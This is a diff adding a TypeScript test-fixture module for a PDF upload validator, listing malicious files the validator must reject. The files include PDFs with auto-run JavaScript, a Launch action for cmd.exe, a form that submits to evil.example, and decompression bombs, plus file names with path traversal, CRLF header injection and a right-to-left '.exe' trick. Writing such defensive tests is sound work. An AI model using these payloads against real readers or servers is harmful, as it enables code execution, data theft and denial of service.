@@ -1,0 +1,318 @@
+import { deflateSync } from 'node:zlib';
+import { PDFDocument } from '@cantoo/pdf-lib';
+import type { ProblemCode } from '../../src/contract/problem.ts';
+import { makePdf } from '../shop/pdfs.ts';
+import { ONE_PAGE, type RawObject, packed, rawPdf, withCatalog, withPage } from './raw-pdf.ts';
+
+export type BadFile = {
+  readonly what: string;
+  readonly bytes: () => Promise<Uint8Array<ArrayBuffer>> | Uint8Array<ArrayBuffer>;
+  readonly code: ProblemCode;
+  readonly status: number;
+  /** A part of what the owner reads. */
+  readonly says: string | RegExp;
+};
+
+const PNG = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10, ...Array(100).fill(7)]);
+const text = (words: string) => new Uint8Array(Buffer.from(words, 'latin1'));
+
+const MEBIBYTE = 1024 * 1024;
+const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
+const ATTACHED = '<< /Type /Filespec /F (a.txt) /EF << /F 5 0 R >> >>';
+const JAVASCRIPT = 'JavaScript';
+const ADDRESS = '<< /S /URI /URI (https://x.example) >>';
+const ON_ITS_OWN = 'on its own';
+
+const cut = async (share: number, isPacked: boolean) => {
+  const bytes = await makePdf({ pages: 20, packed: isPacked });
+  return bytes.slice(0, Math.floor(share * bytes.byteLength));
+};
+
+const active = (what: string, objects: readonly RawObject[], says: string): BadFile => ({
+  what: `a PDF with ${what}`,
+  bytes: () => rawPdf(objects),
+  code: 'pdf_active_content',
+  status: 422,
+  says,
+});
+
+const annotation = (entries: string): string => `<< /Type /Annot /Rect [0 0 9 9] ${entries} >>`;
+
+const ACTIVE: readonly BadFile[] = [
+  active('a script that runs when it opens', withCatalog(`/OpenAction ${SCRIPT}`), JAVASCRIPT),
+  active(
+    'a script among its names',
+    withCatalog('/Names << /JavaScript << /Names [(a) 4 0 R] >> >>', SCRIPT),
+    JAVASCRIPT,
+  ),
+  active(
+    'a script that runs when it is printed',
+    withCatalog(`/AA << /WP ${SCRIPT} >>`),
+    ON_ITS_OWN,
+  ),
+  active(
+    'a script on a link',
+    withPage('/Annots [4 0 R]', annotation(`/Subtype /Link /A ${SCRIPT}`)),
+    JAVASCRIPT,
+  ),
+  active(
+    'a script behind a harmless action',
+    withCatalog('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [4 0 R] >>', SCRIPT),
+    JAVASCRIPT,
+  ),
+  active(
+    'a script under an escaped name',
+    withCatalog('/OpenAction << /S /J#61va#53cript /#4a#53 (x) >>'),
+    JAVASCRIPT,
+  ),
+  {
+    ...active('a script that is packed away', [], JAVASCRIPT),
+    bytes: () => makePdf({}, (document) => document.addJavaScript('greet', 'app.alert(1)')),
+  },
+  active(
+    'a link that starts a program',
+    withPage('/Annots [4 0 R]', annotation('/Subtype /Link /A << /S /Launch /F (cmd.exe) >>')),
+    'starts a program',
+  ),
+  active(
+    'a form that is sent away',
+    withCatalog('/OpenAction << /S /SubmitForm /F (https://evil.example) >>'),
+    'sends what is typed',
+  ),
+  active(
+    'a form that is a program',
+    withCatalog('/AcroForm << /XFA 4 0 R /Fields [] >>', packed('<xdp/>')),
+    'a form that is a program',
+  ),
+  active(
+    'data to import',
+    withCatalog('/OpenAction << /S /ImportData /F (a.fdf) >>'),
+    'reads files',
+  ),
+  active('a link into an attachment', withCatalog('/OpenAction << /S /GoToE >>'), 'attached file'),
+  active(
+    'an embedded file',
+    withCatalog(
+      '/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>',
+      ATTACHED,
+      packed('hello', '/Type /EmbeddedFile'),
+    ),
+    'other files attached',
+  ),
+  active(
+    'a file on a page',
+    withPage('/Annots [4 0 R]', annotation('/Subtype /FileAttachment')),
+    'other files attached',
+  ),
+  ...['RichMedia', 'Movie', 'Sound', 'Screen', '3D'].map((kind) =>
+    active(`a ${kind}`, withPage('/Annots [4 0 R]', annotation(`/Subtype /${kind}`)), 'multimedia'),
+  ),
+  ...['Movie', 'Sound', 'Rendition'].map((kind) =>
+    active(
+      `a link that plays a ${kind}`,
+      withPage('/Annots [4 0 R]', annotation(`/Subtype /Link /A << /S /${kind} >>`)),
+      'multimedia',
+    ),
+  ),
+  active('an address to open on its own', withCatalog(`/OpenAction ${ADDRESS}`), ON_ITS_OWN),
+  active('an address that is referred to', withCatalog('/OpenAction 4 0 R', ADDRESS), ON_ITS_OWN),
+  active(
+    'an address behind a place to begin at',
+    withCatalog(`/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${ADDRESS} >>`),
+    ON_ITS_OWN,
+  ),
+  active('an address to open with a page', withPage(`/AA << /O ${ADDRESS} >>`), ON_ITS_OWN),
+];
+
+/** A page that shows a picture of that size. */
+const picture = (width: number, height: number) => () =>
+  rawPdf(
+    withPage(
+      '/Resources << /XObject << /P 4 0 R >> >> /Contents 5 0 R',
+      packed('x', `/Subtype /Image /Width ${width} /Height ${height} /BitsPerComponent 1`),
+      packed('99 0 0 99 0 0 cm /P Do'),
+    ),
+  );
+
+/** A page of these streams, one after another. */
+const written = (...contents: RawObject[]) => {
+  const references = contents.map((_, index) => `${index + 4} 0 R`).join(' ');
+  return rawPdf(withPage(`/Contents [${references}]`, ...contents));
+};
+
+const form = (more: string): string => `/Subtype /Form /BBox [0 0 9 9] ${more}`;
+
+/** The objects from 5 on: drawings in drawings, each four times in the next, so that the first has 4^30. */
+const nestedDrawings = (): RawObject[] => {
+  const next = (n: number) => form(`/Resources << /XObject << /F ${n + 6} 0 R >> >>`);
+  const drawings = Array.from({ length: 30 }, (_, n) => packed('/F Do '.repeat(4), next(n)));
+  return [...drawings, packed('0 0 9 9 re f', form(''))];
+};
+
+const FIRST_DRAWING = '/Resources << /XObject << /F 5 0 R >> >>';
+
+/** What no reader comes upon before it draws the page. */
+const patternOfDrawings = () => {
+  const cell = `/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 9 9] /XStep 9 /YStep 9`;
+  const pattern = packed('/F Do', `${cell} ${FIRST_DRAWING}`);
+  const drawings = nestedDrawings();
+  const number = 5 + drawings.length;
+  const resources = `/Resources << /Pattern << /P 4 0 R >> >> /Contents ${number} 0 R`;
+  const page = packed('/Pattern cs /P scn 0 0 99 99 re f');
+  return rawPdf(withPage(resources, pattern, ...drawings, page));
+};
+
+const bomb = (what: string, bytes: () => Uint8Array<ArrayBuffer>): BadFile => ({
+  what: `a bomb: ${what}`,
+  bytes,
+  code: 'pdf_too_dense',
+  status: 422,
+  says: /^(The|One) .* with smaller pictures, or in parts\.$/,
+});
+
+/** What these unpack to, where it is known. */
+export const BOMB_BYTES = 1200 * MEBIBYTE;
+
+export const BOMBS: readonly BadFile[] = [
+  bomb('a picture of 20,000 by 20,000', picture(20_000, 20_000)),
+  bomb('a picture of 90,000 by 90,000', picture(90_000, 90_000)),
+  bomb('a page of 1200 MB', () => {
+    const part = packed(Buffer.alloc(BOMB_BYTES / 12, ' '));
+    return written(...Array<RawObject>(12).fill(part));
+  }),
+  bomb('a page of 1200 MB in two layers', () => {
+    const part = deflateSync(packed(Buffer.alloc(BOMB_BYTES / 12, ' ')).data);
+    const dict = '/Filter [/FlateDecode /FlateDecode]';
+    return written(...Array.from({ length: 12 }, () => ({ dict, data: part })));
+  }),
+  bomb('lines without number', () => written(packed('0 0 m 9 9 l S\n'.repeat(8_000_000)))),
+  bomb('drawings in drawings', () =>
+    rawPdf(withPage(`${FIRST_DRAWING} /Contents 4 0 R`, packed('/F Do'), ...nestedDrawings())),
+  ),
+  bomb('drawings in a pattern', patternOfDrawings),
+  bomb('values without number', () => rawPdf(withPage(`/A [${'0 '.repeat(8_000_000)}]`))),
+];
+
+const broken = (what: string, bytes: BadFile['bytes'], says = 'export it again'): BadFile => ({
+  what,
+  bytes,
+  code: 'pdf_broken',
+  status: 422,
+  says,
+});
+
+const PAGES = '<< /Type /Catalog /Pages 2 0 R >>';
+
+const manyPages = (count: number): Uint8Array<ArrayBuffer> => {
+  const kids = Array.from({ length: count }, (_, n) => `${n + 3} 0 R`).join(' ');
+  const pages = Array<string>(count).fill(ONE_PAGE[2]);
+  return rawPdf([PAGES, `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`, ...pages]);
+};
+
+/** A tree in which each branch hangs twice. */
+const samePage = (depth: number): Uint8Array<ArrayBuffer> => {
+  const branches = Array.from({ length: depth }, (_, n) => {
+    const kid = `${n + 3} 0 R`;
+    return `<< /Type /Pages /Kids [${kid} ${kid}] /Count ${2 ** (depth - n)} >>`;
+  });
+  return rawPdf([PAGES, ...branches, ONE_PAGE[2]]);
+};
+
+const cutInUpdate = async (): Promise<Uint8Array<ArrayBuffer>> => {
+  const document = await PDFDocument.load(await makePdf({ packed: false }), {
+    forIncrementalUpdate: true,
+  });
+  for (let page = 0; page < 20; page += 1) document.addPage();
+  const bytes = new Uint8Array(await document.save({ useObjectStreams: false }));
+  return bytes.slice(0, -500);
+};
+
+/** Every kind of file that no buyer may ever get, and why. */
+export const BAD_FILES: readonly BadFile[] = [
+  {
+    what: 'a renamed PNG',
+    bytes: () => PNG,
+    code: 'file_not_pdf',
+    status: 415,
+    says: 'Please upload a PDF file.',
+  },
+  {
+    what: 'an empty file',
+    bytes: () => new Uint8Array(),
+    code: 'file_empty',
+    status: 422,
+    says: 'empty',
+  },
+  broken('an HTML page with the header of a PDF', () =>
+    text('%PDF-1.7\n<html><script>alert(1)</script></html>'),
+  ),
+  broken('an HTML page with header and end of a PDF', () =>
+    text('%PDF-1.7\n<html><script>alert(1)</script></html>\nstartxref\n9\n%%EOF'),
+  ),
+  ...[0.02, 0.3, 0.7, 0.99].flatMap((share) =>
+    [false, true].map((isPacked) =>
+      broken(`a PDF cut off at ${share * 100} % (packed: ${isPacked})`, () => cut(share, isPacked)),
+    ),
+  ),
+  broken('a PDF cut off in what was added to it', cutInUpdate, 'end of the PDF is missing'),
+  broken('a PDF without pages', () => rawPdf([PAGES, '<< /Type /Pages /Kids [] /Count 0 >>'])),
+  broken('a PDF whose pages go round in a circle', () =>
+    rawPdf([PAGES, '<< /Type /Pages /Kids [2 0 R] >>']),
+  ),
+  broken(
+    'a PDF that says that it has more pages than it has',
+    () => rawPdf([PAGES, '<< /Type /Pages /Kids [3 0 R] /Count 2 >>', ONE_PAGE[2]]),
+    'Page 2',
+  ),
+  {
+    what: 'an encrypted PDF',
+    bytes: () =>
+      makePdf({}, (document) => document.encrypt({ userPassword: 'a', ownerPassword: 'b' })),
+    code: 'pdf_encrypted',
+    status: 422,
+    says: 'protected',
+  },
+  {
+    what: 'a PDF that only its owner may change',
+    bytes: () => makePdf({ packed: false }, (document) => document.encrypt({ ownerPassword: 'b' })),
+    code: 'pdf_encrypted',
+    status: 422,
+    says: 'protected',
+  },
+  {
+    what: 'a PDF of 501 pages',
+    bytes: () => manyPages(501),
+    code: 'pdf_too_many_pages',
+    status: 422,
+    says: '501 pages',
+  },
+  {
+    what: 'a PDF that shows one page 1,024 times',
+    bytes: () => samePage(10),
+    code: 'pdf_too_many_pages',
+    status: 422,
+    says: '1024 pages',
+  },
+  {
+    what: 'a PDF of 19 MB',
+    bytes: () => rawPdf([...ONE_PAGE, { dict: '', data: new Uint8Array(19 * MEBIBYTE) }]),
+    code: 'file_too_large',
+    status: 413,
+    says: 'MB',
+  },
+  ...ACTIVE,
+  ...BOMBS,
+];
+
+/** Names that a file may have had, and none of them is kept. */
+export const BAD_NAMES: readonly (readonly [what: string, name: string])[] = [
+  ['a way up', '../../Money-Smart-Kids-Ages-6-10.pdf'],
+  ['a way up of Windows', '..\\guide.pdf'],
+  ['a NUL', 'guide.pdf\0.png'],
+  ['a line feed', 'guide\n.pdf'],
+  ['a carriage return', 'guide\r\nset-cookie: a=b.pdf'],
+  ['300 characters', `${'x'.repeat(296)}.pdf`],
+  ['a mark that turns what follows around', 'guide\u202efdp.exe'],
+  ['nothing but a blank', ' '],
+  ['nothing at all', ''],
+];
